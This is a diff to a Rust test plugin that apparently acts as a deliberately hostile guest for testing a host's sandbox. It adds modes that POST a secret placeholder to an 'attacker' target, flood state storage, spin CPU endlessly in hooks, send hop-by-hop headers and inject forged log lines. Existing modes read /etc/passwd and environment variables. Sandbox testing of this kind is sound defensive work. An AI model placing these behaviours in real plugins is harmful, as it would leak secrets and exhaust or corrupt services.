@@ -7,7 +7,12 @@
 //! `log-flood`, `stdout-flood`, `fetch` and `fetch-flood` (GET the `target`
 //! setting once, or until refused), `secret-echo`, `secret-host`, `read-file`,
 //! `read-env`, `echo-request` (hand back and store every request header and the
-//! query), `log-request` (log them); anything else is well-behaved.
+//! query), `log-request` (log them), `secret-body` (POST the `target` setting with
+//! a secret placeholder in the body), `state-flood` (write state until refused),
+//! `hop-by-hop` (answer with the `status` setting, 101 by default, and hop-by-hop
+//! headers), `hook-loop` and `reply-loop` (spin in `on-message-persisted` or
+//! `on-respond`), `error-forge` (log, fail hooks and fail replies with huge
+//! strings that carry forged log lines); anything else is well-behaved.
 
 #[expect(unsafe_code, reason = "generated bindings")]
 mod bindings {
@@ -60,11 +65,15 @@ fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
 }
 
 fn fetch(url: String, headers: Vec<(String, String)>) -> String {
+    send("GET", url, headers, Vec::new())
+}
+
+fn send(method: &str, url: String, headers: Vec<(String, String)>, body: Vec<u8>) -> String {
     let request = OutgoingRequest {
-        method: "GET".to_owned(),
+        method: method.to_owned(),
         url,
         headers,
-        body: Vec::new(),
+        body,
         timeout_ms: Some(500),
     };
     match host::http_fetch(&request) {
@@ -78,26 +87,48 @@ fn fetch(url: String, headers: Vec<(String, String)>) -> String {
     }
 }
 
-/// Every header and the query, as a guest trying to collect secrets would see them.
+/// Every header, the query and the body, as a guest trying to collect secrets would
+/// see them.
 fn describe(request: &HttpRequest) -> String {
-    format!("headers {:?} query {}", request.headers, request.query)
+    format!(
+        "headers {:?} query {} body {:?}",
+        request.headers,
+        request.query,
+        String::from_utf8_lossy(&request.body)
+    )
+}
+
+/// Burns CPU without ever returning (the optimiser cannot prove the loop endless).
+fn spin() -> u64 {
+    let mut x: u64 = 1;
+    loop {
+        x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
+        if x == 0 {
+            return x;
+        }
+    }
+}
+
+/// A string that tries to forge a log line of its own and is far larger than any
+/// sane error message.
+fn forged(what: &str) -> String {
+    format!(
+        "{what} failed\n2026-01-01T00:00:00Z  INFO switchboard: forged line \u{1b}[31mred\r\n{}",
+        "padding ".repeat(200_000)
+    )
+}
+
+fn mode() -> String {
+    host::setting("mode").unwrap_or_default()
 }
 
 impl Guest for Hostile {
     fn on_http_request(request: HttpRequest) -> HttpResponse {
-        let mode = host::setting("mode").unwrap_or_default();
+        let mode = mode();
         let target = host::setting("target").unwrap_or_default();
         let id = String::from_utf8_lossy(&request.body).trim().to_owned();
         match mode.as_str() {
-            "loop" => {
-                let mut x: u64 = 1;
-                loop {
-                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
-                    if x == 0 {
-                        return ok(String::new());
-                    }
-                }
-            }
+            "loop" => ok(spin().to_string()),
             "memory" => {
                 let mut hoard: Vec<Vec<u8>> = Vec::new();
                 loop {
@@ -178,12 +209,56 @@ impl Guest for Hostile {
                 "http://{{secret:api_key}}.example.com/".to_owned(),
                 Vec::new(),
             )),
+            "secret-body" => ok(send(
+                "POST",
+                target,
+                vec![("content-type".to_owned(), "application/json".to_owned())],
+                br#"{"chat_id":"attacker","text":"{{secret:api_key}}"}"#.to_vec(),
+            )),
+            "state-flood" => {
+                let value = vec![7u8; 60 * 1024];
+                let mut stored = 0u64;
+                let refusal = loop {
+                    match host::state_set(&format!("{id}-{stored}"), &value) {
+                        Ok(()) => stored += 1,
+                        Err(e) => break e,
+                    }
+                    if stored == 1_000_000 {
+                        break "never refused".to_owned();
+                    }
+                };
+                ok(format!("stored {stored}; then {refusal}"))
+            }
+            "hop-by-hop" => {
+                let status = host::setting("status")
+                    .and_then(|s| s.parse().ok())
+                    .unwrap_or(101);
+                let header = |name: &str, value: &str| (name.to_owned(), value.to_owned());
+                HttpResponse {
+                    status,
+                    headers: vec![
+                        header("upgrade", "websocket"),
+                        header("connection", "upgrade, x-hostile"),
+                        header("keep-alive", "timeout=600"),
+                        header("te", "trailers"),
+                        header("trailer", "x-forged"),
+                        header("transfer-encoding", "chunked"),
+                        header("proxy-connection", "keep-alive"),
+                        header("x-hostile", "hop"),
+                        header("x-kept", "yes"),
+                    ],
+                    body: b"hop".to_vec(),
+                }
+            }
             "read-file" => ok(match std::fs::read_to_string("/etc/passwd") {
                 Ok(text) => format!("read {} bytes", text.len()),
                 Err(e) => format!("file error: {e}"),
             }),
             "read-env" => ok(format!("env: {:?}", std::env::vars().collect::<Vec<_>>())),
             _ => {
+                if mode == "error-forge" {
+                    host::log(host::LogLevel::Warn, &forged("logging"));
+                }
                 let text = String::from_utf8_lossy(&request.body).into_owned();
                 match host::emit(&message(id, text)) {
                     Ok(()) => ok("stored".to_owned()),
@@ -198,12 +273,28 @@ impl Guest for Hostile {
     }
 
     fn on_respond(_message: OutboundMessage) -> Result<Receipt, DeliveryError> {
-        Ok(Receipt { external_id: None })
+        match mode().as_str() {
+            "reply-loop" => Err(DeliveryError {
+                message: spin().to_string(),
+                retryable: true,
+                retry_after_secs: None,
+            }),
+            "error-forge" => Err(DeliveryError {
+                message: forged("reply"),
+                retryable: false,
+                retry_after_secs: None,
+            }),
+            _ => Ok(Receipt { external_id: None }),
+        }
     }
 }
 
 impl Persistence for Hostile {
     fn on_message_persisted(_message: InboundMessage) -> Result<(), String> {
-        Ok(())
+        match mode().as_str() {
+            "hook-loop" => Err(spin().to_string()),
+            "error-forge" => Err(forged("hook")),
+            _ => Ok(()),
+        }
     }
 }
